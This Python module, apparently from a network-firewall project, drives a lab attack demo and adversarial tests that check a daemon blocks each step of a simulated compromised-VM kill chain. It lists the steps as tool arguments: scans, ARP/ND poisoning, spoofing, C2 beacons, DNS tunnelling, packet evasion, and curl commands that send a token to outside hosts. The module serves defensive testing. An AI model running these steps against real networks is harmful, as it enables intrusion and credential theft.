"""The kill chain of a compromised VM, played from inside lab VM agent1 (zone sandbox) against a
running skyguard daemon: recon scans, lateral movement, IP/MAC spoofing, ARP and ND poisoning, a
rogue router advertisement, C2 beaconing, hard-coded internet IPs, DoT and DoH, DNS to a foreign
resolver, DNS tunnelling, the metadata service; and, from sdnctl1 (which holds a credential
placeholder), exfiltration of the placeholder and of the real secret. Plus the evasion corpus
through real veths and SIGKILLs of the daemon under load.

What it is for: `skyguard demo --attack` (a viewer watches each step being blocked, with the
reason skyguard counted or logged) and tests/adversarial (which assert the same). Each step runs
a small scapy/socket/dnslib/curl script inside the VM (frames crafted there, as an attacker with
root in the VM would), while sniffers in every other VM and in the lab internet count what of
agent1 arrives, and a legitimate LDAP session from radius1 to dc1 keeps talking. A step is
blocked when nothing answered it, nothing of it arrived anywhere, the expected drop reasons grew
in `skyguard status` counters (datapath steps) or a non-allowing DNS / credential decision was
logged (proxy steps), no secret or placeholder reached the lab's HTTP servers, and (ARP/ND) the
host's neighbour table was not poisoned.

Not here: building the lab (skyguard.lab) or the daemon (skyguard.daemon).
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path

from skyguard import config, demo
from skyguard.demo import ATTACKER, DIRECTORY, HOLDER, RADIUS, Cast, Demo, echo_server, vmtool
from skyguard.errors import SkyguardError
from skyguard.lab import addressing as plan
from skyguard.vmtools import toolbox

# The roles the attacks are written for (ATTACKER, DIRECTORY, RADIUS, HOLDER) and their Cast are
# the demo's (skyguard/demo.py): addresses, MACs, interfaces, zones and the holder's placeholder
# are read from the policy the arena enforces, never copied here, so a policy that readdresses
# them moves the attacks with it.
MARKER = toolbox.MARK  # carried by every crafted payload, so sniffers can tell attack from noise
# Listeners the chain aims at inside the target VMs (a real service answering, if reached).
TARGET_PORTS = {DIRECTORY: (22, 135, 389, 445), RADIUS: (22,)}
LEGIT_PORT = 389  # radius1 -> dc1 LDAP: the legitimate session that must not notice anything
C2_V4 = "198.51.100.99"  # in the lab internet, named by no rule


def read_cast(policy_path: str | Path | None = None) -> Cast:
    """The cast of the policy at `policy_path` (default: the policy `skyguard demo` and the lab use)."""
    return demo.read_cast(policy_path, needed_by=Arena.needed_by)


@dataclass
class Attack:
    step: str  # recon, lateral, spoofing, ...
    title: str
    argv: list[str]  # arguments of the toolbox (skyguard/vmtools/toolbox.py)
    reasons: tuple[str, ...]  # drop reasons that must grow at the sandbox's egress
    poisoned: list[tuple[int, str]] = field(default_factory=list)  # (family, address): host neighbour must not be agent1's MAC
    vm: str = ATTACKER  # where the attack runs (credential steps: the VM that holds a placeholder)
    logged: str | None = None  # a decision of this kind must be logged for `vm` with a non-allowing verdict
    leaks: tuple[str, ...] = ()  # what must never reach the lab internet's HTTP servers: "secret", "placeholder"
    # filled in by play()
    sent: int = 0
    answered: int = 0
    delivered: int = 0
    counted: dict = field(default_factory=dict)  # reason -> packets dropped during the step
    neighbour_poisoned: list[str] = field(default_factory=list)
    log_verdicts: list[str] = field(default_factory=list)  # verdicts/results of `logged` decisions
    leaked: int = 0  # requests the lab internet received carrying what `leaks` names

    @property
    def blocked(self) -> bool:
        logged_ok = self.logged is None or (bool(self.log_verdicts) and not any(
            v in ("allowed", "swapped", "passed") for v in self.log_verdicts))
        return (self.answered == 0 and self.delivered == 0 and not self.neighbour_poisoned and self.leaked == 0
                and logged_ok and all(self.counted.get(r, 0) > 0 for r in self.reasons))


def kill_chain(cast: Cast | None = None) -> list[Attack]:
    """The chain against the workloads of `cast` (default: read from the default policy)."""
    cast = read_cast() if cast is None else cast
    others_v4 = [cast.v4(v) for v in cast.zone_heads()]
    others_v6 = [cast.v6(v) for v in cast.zone_heads()]
    dc1_v4, dc1_v6 = cast.v4(DIRECTORY), cast.v6(DIRECTORY)
    radius_v4, radius_v6 = cast.v4(RADIUS), cast.v6(RADIUS)
    dns_v4, placeholder = str(plan.DNS_SERVER_V4), cast.placeholder
    return [
        Attack("recon", "TCP scan of the other zones (IPv4)", ["tcp", *others_v4, "--", "22", "88", "135", "389",
                                                                "443", "445", "636", "830", "3389", "5985"],
               ("policy_deny",)),
        Attack("recon", "TCP scan of the other zones (IPv6)", ["tcp", *others_v6, "--", "22", "135", "389", "445"],
               ("policy_deny",)),
        Attack("recon", "UDP scan of the other zones", ["udp", *others_v4, dc1_v6, "--", "88", "123", "137",
                                                         "161", "389", "500", "1812"], ("policy_deny",)),
        Attack("lateral", "SSH to the directory", ["tcp", dc1_v4, dc1_v6, "--", "22"], ("policy_deny",)),
        Attack("lateral", "SMB to the directory", ["tcp", dc1_v4, dc1_v6, "--", "445"], ("policy_deny",)),
        Attack("lateral", "LDAP to the directory", ["tcp", dc1_v4, dc1_v6, "--", "389"], ("policy_deny",)),
        Attack("lateral", "MS-RPC to the directory", ["tcp", dc1_v4, "--", "135"], ("policy_deny",)),
        Attack("lateral", "SSH to the RADIUS server", ["tcp", radius_v4, "--", "22"], ("policy_deny",)),
        Attack("spoofing", "frames with the directory's MAC and IP toward RADIUS",
               ["spoof-ip-mac", cast.workload(DIRECTORY).mac, dc1_v4, radius_v4, "1812"], ("spoof_mac",)),
        Attack("spoofing", "the RADIUS server's IPv4 address with its own MAC",
               ["spoof-ip", radius_v4, dc1_v4, "389"], ("spoof_ip",)),
        Attack("spoofing", "the RADIUS server's IPv6 address with its own MAC",
               ["spoof-ip", radius_v6, dc1_v6, "389"], ("spoof_ip",)),
        Attack("arp", "gratuitous ARP claiming the gateway and the directory",
               ["arp-poison", str(plan.GATEWAY_V4), dc1_v4], ("arp_spoof",), poisoned=[(4, dc1_v4)]),
        Attack("nd", "unsolicited neighbour advertisements for the directory's IPv6 address",
               ["nd-poison", dc1_v6], ("nd_spoof",), poisoned=[(6, dc1_v6)]),
        Attack("ra", "rogue router advertisement (a default route and a prefix)", ["rogue-ra"], ("nd_forbidden",)),
        Attack("c2", "C2 beacon to an unlisted address (every 0.2 s)", ["beacon", C2_V4, "8443", "5", "0.2"],
               ("no_rule",)),
        Attack("c2", "C2 over UDP to an unlisted address", ["udp", C2_V4, "--", "4444", "443"], ("no_rule",)),
        Attack("internet", "hard-coded internet IPs (HTTP, HTTPS)", ["tcp", "192.0.2.80", "2001:db8::80", "203.0.113.66",
                                                                    "--", "80", "443"], ("no_rule",)),
        Attack("dns-bypass", "DNS over TLS to an unlisted resolver", ["tcp", "198.51.100.53", "2001:db8::853", "--", "853"],
               ("no_rule",)),
        Attack("internet", "the cloud metadata service", ["tcp", "169.254.169.254", "--", "80"], ("policy_deny",)),
        Attack("dns-bypass", "DNS over UDP to a foreign resolver for an unlisted name",
               ["dns", "198.51.100.53", "udp", "c2.evil.test"], (), logged="dns"),
        Attack("dns-bypass", "DNS over TCP/53 to a foreign resolver for an unlisted name",
               ["dns", "198.51.100.53", "tcp", "c2.evil.test"], (), logged="dns"),
        Attack("dns-bypass", "DNS over HTTPS to an unlisted resolver address", ["tcp", "198.51.100.53", "--", "443"],
               ("no_rule",)),
        Attack("dns-tunnel", "DNS tunnelling: 40 random labels under an allowed domain",
               ["dns", dns_v4, "udp", "--tunnel", "files.pythonhosted.test"], (), logged="dns"),
        Attack("exfiltration", "sdnctl1 sends its placeholder to another allowed host",
               ["curl", "--cacert", "{ca}", "-H", f"Authorization: Bearer {placeholder}", "https://deb.debian.test/"],
               (), vm=HOLDER, logged="credential", leaks=("placeholder", "secret")),
        Attack("exfiltration", "sdnctl1 sends the real secret over allowed HTTPS to an allowed host",
               ["curl", "--cacert", "{ca}", "-H", "X-Debug: {secret}", "https://api.github.test/"],
               (), vm=HOLDER, logged="credential", leaks=("placeholder", "secret")),
    ]


# Evasion through real veths: crafted frames of flows agent1 may not open (dc1 port 22), each
# with the drop reasons it must produce at the sandbox's egress.
EVASION_CASES = {
    "frag-nonfirst": ("frag_no_flow",),
    "frag-tiny-first": ("malformed", "frag_no_flow"),
    "frag-overlap": ("policy_deny", "frag_no_flow"),
    "frag-v6": ("policy_deny", "frag_no_flow"),
    "v6-long-chain": ("ipv6_exthdr_chain",),
    "v6-unknown-header": ("ipv6_exthdr",),
    "v6-routing-header": ("ipv6_exthdr",),
    "vlan": ("vlan",),
    "qinq": ("vlan",),
    "ip-options": ("ip_options",),
    "tcp-flags": ("policy_deny",),
    "bad-checksums": ("policy_deny",),
    "truncated": ("malformed", "ip_options"),
}


def evasion_corpus(cast: Cast | None = None) -> list[Attack]:
    cast = read_cast() if cast is None else cast
    dc1_v4, dc1_v6 = cast.v4(DIRECTORY), cast.v6(DIRECTORY)
    out = [Attack("evasion", case, ["evasion", case, dc1_v4, dc1_v6, "22"], reasons)
           for case, reasons in EVASION_CASES.items()]
    out.append(Attack("evasion", "gso: UDP_SEGMENT super-packets", ["gso", dc1_v4, "445"], ("policy_deny",)))
    return out


# Steps the issue asks for that need the DNS proxy / credential proxy in the daemon.
NOT_YET_COVERED = [
    ("crash", "SIGKILL of the DNS proxy alone and of the credential proxy alone (they run inside the daemon)"),
    ("dns-bypass", "DoH to an allowed host (needs TLS inspection of DNS payloads)"),
]


class Arena(Demo):
    """The lab of a policy (default: policies/keysystems.yaml, as `skyguard demo`) with the daemon
    in its host namespace and throwaway state, run dir and pins; sniffers and the legitimate
    session on demand. The lab, the daemon and the attacks' cast read the same policy file.
    Reuses Demo's daemon start, control and teardown machinery."""

    needed_by = "the attack arena"

    def __init__(self, prefix: str | None = None, workdir: Path | None = None, console=None, progress=None,
                 policy_path: str | Path | None = None):
        # Demo reads the cast of the policy (as the lab and the daemon get it) and builds script():
        # a policy without the roles fails there, before any lab.
        super().__init__(console=console, policy_path=policy_path)
        if workdir is not None:
            self.workdir.rmdir()  # Demo's own (still empty) temporary folder: this one is used instead
            self.workdir = Path(workdir)
            self.ca_file = self.workdir / "skyguard-ca.pem"
            self.env.update(SKYGUARD_STATE_DIR=str(self.workdir / "state"), SKYGUARD_RUN_DIR=str(self.workdir / "run"))
        self.prefix = config.LAB_PREFIX if prefix is None else prefix
        self.env["SKYGUARD_PIN_DIR"] = str(config.PIN_DIR.parent / f"skyguard-arena-{os.getpid()}")
        self.progress = progress or (lambda m: None)
        self.sniffers: dict[str, subprocess.Popen] = {}
        self.daemon_restarts = 0

    def script(self) -> list:  # the kill chain, built before any lab (not the demo scenario)
        return kill_chain(self.cast)

    # ---- lifecycle ----------------------------------------------------------------------------
    def up(self) -> None:
        from skyguard.lab import Lab

        self.lab = Lab(policy_path=self.policy_path, prefix=self.prefix, lab_dir=self.workdir / "lab",
                       progress=self.progress)
        self.lab.up()
        self.start_daemon()
        for vm, ports in TARGET_PORTS.items():
            for port in ports:
                self.helpers.append(self.lab.popen(vm, echo_server(port),
                                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        time.sleep(0.5)

    def down(self) -> None:
        self.stop_sniffers()
        self.teardown()
        subprocess.run(["rm", "-rf", self.env["SKYGUARD_PIN_DIR"]])

    def start_daemon(self) -> None:
        """Start `skyguard up` in the lab host (no mount namespace in between, so the Popen pid is
        the daemon's and kill_daemon() hits it) and wait until it answers."""
        log_path = self.workdir / "daemon.log"
        self.workdir.mkdir(parents=True, exist_ok=True)
        if not self.real_token:
            self.provision_secrets()  # the sealed store survives restarts (it is in the state dir)
        self.daemon = self.lab.popen(
            "host", [sys.executable, "-m", "skyguard.cli.main", "up", "--policy", str(self.policy_path),
                     "--metrics", "off", "--upstream-ca", str(self.lab.ca_cert)], lab_resolver=False,
            env=self.env, stdout=open(log_path, "a"), stderr=subprocess.STDOUT)
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            if self.daemon.poll() is not None:
                raise SkyguardError(f"the daemon exited at start; its log: {log_path}")
            if self.skyguard("status", "--json").returncode == 0:
                if not self.ca_file.exists():
                    self.ca_file.write_text(self.skyguard("ca", "export").stdout)
                return
            time.sleep(0.2)
        raise SkyguardError(f"the daemon did not answer within 120 s; its log: {log_path}")

    def kill_daemon(self) -> None:
        """SIGKILL: no shutdown code runs; the pinned programs keep enforcing."""
        os.kill(self.daemon.pid, signal.SIGKILL)
        self.daemon.wait()
        self.daemon_restarts += 1

    def log_verify(self) -> subprocess.CompletedProcess:
        return self.skyguard("log", "verify")

    # ---- observers ----------------------------------------------------------------------------
    def start_sniffers(self, members=None) -> None:
        """Sniffers for the attacker's frames in `members` (default: every other VM and the internet)."""
        attacker = self.cast.attacker
        for name in [*self.cast.bystanders(), "internet"] if members is None else members:
            p = self.lab.popen(name, vmtool("sniff", self.cast.v4(ATTACKER), self.cast.v6(ATTACKER), attacker.mac,
                                            MARKER.decode()),
                               lab_resolver=False, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
            assert p.stdout.readline().strip() == "ready"
            self.sniffers[name] = p

    def stop_sniffers(self) -> dict[str, dict]:
        """{member: {"frames": n, "samples": [...]}} of what each sniffer counted."""
        out = {}
        for name, p in self.sniffers.items():
            try:
                stdout, _ = p.communicate("", timeout=10)
                out[name] = json.loads(stdout.strip().splitlines()[-1])
            except (subprocess.TimeoutExpired, ValueError, IndexError):
                p.kill()
                out[name] = {"frames": -1, "samples": ["sniffer failed"]}
        self.sniffers = {}
        return out

    def start_legit(self) -> subprocess.Popen:
        p = self.lab.popen(RADIUS, vmtool("legit", self.cast.v4(DIRECTORY), str(LEGIT_PORT)),
                           lab_resolver=False, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        line = p.stdout.readline().strip()
        if line != "ready":
            p.kill()
            raise SkyguardError("the legitimate radius1 -> dc1:389 session could not start (is dc1 listening?)")
        return p

    @staticmethod
    def stop_legit(p: subprocess.Popen) -> dict:
        stdout, _ = p.communicate("", timeout=10)
        return json.loads(stdout.strip().splitlines()[-1])

    def sandbox_drops(self) -> dict[str, int]:
        counters = self.control("status")["counters"]
        return {d["reason"]: d["packets"] for d in counters["drops"]
                if d["zone"] == self.cast.attacker.zone and d["direction"] == "egress"}

    def interface_mac(self, member: str, ifname: str) -> str:
        """MAC of `ifname` in lab member `member` (ip, not /sys: nsenter keeps the caller's sysfs)."""
        done = self.lab.exec(member, ["ip", "-o", "link", "show", "dev", ifname], lab_resolver=False,
                             capture_output=True, text=True)
        words = done.stdout.split()
        return words[words.index("link/ether") + 1]

    def host_neighbour_macs(self, family: int, address: str) -> set[str]:
        """Link-layer addresses the lab host's neighbour table holds for `address` (any interface)."""
        done = self.lab.exec("host", ["ip", f"-{family}", "neigh", "show", address], lab_resolver=False,
                             capture_output=True, text=True)
        words = done.stdout.split()
        return {words[i + 1] for i, w in enumerate(words[:-1]) if w == "lladdr"}

    def _lab_requests(self) -> list[str]:
        """Lines of the lab internet's HTTP(S) request log (one JSON object per request received)."""
        path = self.lab.requests_log
        return path.read_text().splitlines() if path.exists() else []

    def sniffer_self_check(self) -> int:
        """Frames of agent1 the internet's sniffer counts for an ALLOWED syslog datagram (3 sent):
        proof that the sniffers would see attack traffic if any got through."""
        self.start_sniffers(members=("internet",))
        try:
            self.lab.exec(ATTACKER, vmtool("toolbox", "udp", str(plan.SYSLOG_COLLECTOR_V4), "--", "514", "514", "514"),
                          lab_resolver=False, capture_output=True)
            time.sleep(0.3)
        finally:
            counted = self.stop_sniffers()
        return counted["internet"]["frames"]

    # ---- the chain ----------------------------------------------------------------------------
    # Not Demo.play (demo steps): the arena plays attacks; nothing calls an Arena as a Demo.
    def play(self, attacks: list[Attack] | None = None, on_step=None) -> dict:  # type: ignore[override]
        """Run every attack from agent1 with sniffers everywhere else and the legitimate session
        running. Returns {"attacks": [...], "legit": {"ok", "failed"}, "sniffed": {...}}."""
        attacks = kill_chain(self.cast) if attacks is None else attacks
        gateway_mac = self.interface_mac("host", self.cast.attacker.interface)
        self.start_sniffers()
        legit = self.start_legit()
        try:
            for attack in attacks:
                before = self.sandbox_drops()
                self.log_mark = self.log_size()
                requests_before = self._lab_requests()
                argv = [a.replace("{ca}", str(self.ca_file)).replace("{secret}", self.real_token) for a in attack.argv]
                done = self.lab.exec(attack.vm, vmtool("toolbox", *argv), lab_resolver=True,
                                     capture_output=True, text=True,
                                     env=dict(os.environ, PYTHONPATH=str(config.REPO_ROOT), SG_GATEWAY_MAC=gateway_mac))
                try:
                    result = json.loads(done.stdout.strip().splitlines()[-1])
                except (ValueError, IndexError):
                    raise SkyguardError(f"attack tool failed for {attack.title!r}: {done.stderr[-800:]}") from None
                attack.sent, attack.answered = result["sent"], result["answered"]
                time.sleep(0.2)  # let the last frames land before counting
                after = self.sandbox_drops()
                attack.counted = {r: after[r] - before.get(r, 0) for r in after if after[r] > before.get(r, 0)}
                if attack.logged:
                    self.logged(attack.vm, attack.logged, lambda rs, verdicts=attack.log_verdicts: verdicts.extend(
                        str(r.get("verdict") or r.get("result")) for r in rs))
                if attack.leaks:
                    fresh = self._lab_requests()[len(requests_before):]
                    needles = [self.real_token if w == "secret" else self.cast.placeholder for w in attack.leaks]
                    attack.leaked = sum(1 for line in fresh if any(n and n in line for n in needles))
                for family, address in attack.poisoned:
                    if self.cast.attacker.mac in self.host_neighbour_macs(family, address):
                        attack.neighbour_poisoned.append(address)
                if on_step:
                    on_step(attack)
        finally:
            legit_result = self.stop_legit(legit)
            sniffed = self.stop_sniffers()
        # Sniffers run through the whole chain: whatever arrived is charged to every step's total
        # (the goal is zero, so any arrival fails the run).
        arrived = sum(max(0, s["frames"]) for s in sniffed.values())
        for attack in attacks:
            attack.delivered = arrived
        return {"attacks": attacks, "legit": legit_result, "sniffed": sniffed}


def crash_under_load(arena: Arena, crashes: int, on_crash=None) -> dict:
    """SIGKILL the daemon `crashes` times while agent1 floods a denied port of dc1 and radius1
    keeps its LDAP session to dc1; restart it after each kill and verify the signed log.
    Returns {"crashes", "log_verify_failures": [...], "denied_dropped": n, "delivered": n,
    "legit": {"ok", "failed"}}: the goal is delivered == 0, failed == 0, no verify failure."""
    arena.start_sniffers(members=(DIRECTORY,))
    legit = arena.start_legit()
    before = arena.sandbox_drops().get("policy_deny", 0)
    flood = arena.lab.popen(ATTACKER, vmtool("toolbox", "flood", arena.cast.v4(DIRECTORY), "445", "86400"),
                            lab_resolver=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    failures = []
    try:
        time.sleep(0.5)
        for i in range(crashes):
            arena.kill_daemon()
            time.sleep(0.2)  # the flood goes on with no daemon at all
            arena.start_daemon()
            verified = arena.log_verify()
            if verified.returncode != 0:
                failures.append((i, (verified.stdout + verified.stderr).strip()[-500:]))
            if on_crash:
                on_crash(i, verified.returncode == 0)
        time.sleep(0.5)
    finally:
        flood.kill()
        flood.wait()
        legit_result = arena.stop_legit(legit)
        sniffed = arena.stop_sniffers()
    return {"crashes": crashes, "log_verify_failures": failures,
            "denied_dropped": arena.sandbox_drops().get("policy_deny", 0) - before,
            "delivered": sniffed[DIRECTORY]["frames"], "legit": legit_result}


def run_attack_demo(console=None, policy_path: str | Path | None = None) -> int:
    """`skyguard demo --attack`: build the arena, play the kill chain for a viewer, verify the log.
    policy_path: the policy to enforce and attack (default: the embedded one)."""
    from rich.console import Console
    from rich.table import Table

    console = console or Console(width=None if sys.stdout.isatty() else 160)  # as Demo: wide in CI logs
    arena = Arena(workdir=Path(tempfile.mkdtemp(prefix="skyguard-attack-")), console=console,
                  progress=lambda m: console.print(f"   [dim]{m}[/]"), policy_path=policy_path)
    try:
        console.print(f"[bold]1. Building the lab and starting skyguard[/] with {arena.policy_path.name}")
        arena.up()
        console.print(f"[bold]2. {ATTACKER} (zone {arena.cast.attacker.zone}) is compromised.[/] Its kill chain, while radius1 "
                      f"keeps an LDAP session to dc1:")

        def on_step(a: Attack) -> None:
            why = ", ".join(f"{r} x{n}" for r, n in sorted(a.counted.items())) or "nothing counted"
            if a.logged:
                why += f"; {a.logged} log: " + (", ".join(sorted(set(a.log_verdicts))) or "nothing logged")
            ok = a.answered == 0 and not a.neighbour_poisoned and not a.leaked
            mark = "[green]blocked[/]" if ok else "[bold red]GOT THROUGH[/]"
            console.print(f"   {mark} {a.vm:7} {a.step:12} {a.title} [dim]({a.sent} sent; dropped: {why})[/]")

        result = arena.play(on_step=on_step)
        console.print("[bold]3. What skyguard decided[/]")
        table = Table(title="Kill chain from agent1")
        for col in ("VM", "step", "attempt", "sent", "answered", "why blocked"):
            table.add_column(col)
        for a in result["attacks"]:
            why = ", ".join(f"{r} x{n}" for r, n in sorted(a.counted.items()))
            if a.logged:
                why = (why + "; " if why else "") + f"{a.logged}: " + ", ".join(sorted(set(a.log_verdicts)))
            table.add_row(a.vm, a.step, a.title, str(a.sent), str(a.answered), why)
        console.print(table)
        arrived = {k: v["frames"] for k, v in result["sniffed"].items() if v["frames"]}
        console.print(f"   frames of the attacker that reached another VM or the internet: "
                      f"{sum(arrived.values())} {arrived or ''}")
        console.print(f"   legitimate radius1 -> dc1:389 session: {result['legit']['ok']} round trips ok, "
                      f"{result['legit']['failed']} failed")
        for step, what in NOT_YET_COVERED:
            console.print(f"   [yellow]not yet covered[/] {step}: {what}")
        console.print("[bold]4. Verifying the signed log[/]")
        verified = arena.log_verify()
        console.print("   " + (verified.stdout.strip() or verified.stderr.strip()))
        ok = all(a.blocked for a in result["attacks"]) and result["legit"]["failed"] == 0 and verified.returncode == 0
        console.print("[bold green]attack demo ok[/]: every step blocked, legitimate traffic untouched"
                      if ok else "[bold red]attack demo FAILED[/]")
        return 0 if ok else 1
    finally:
        arena.down()
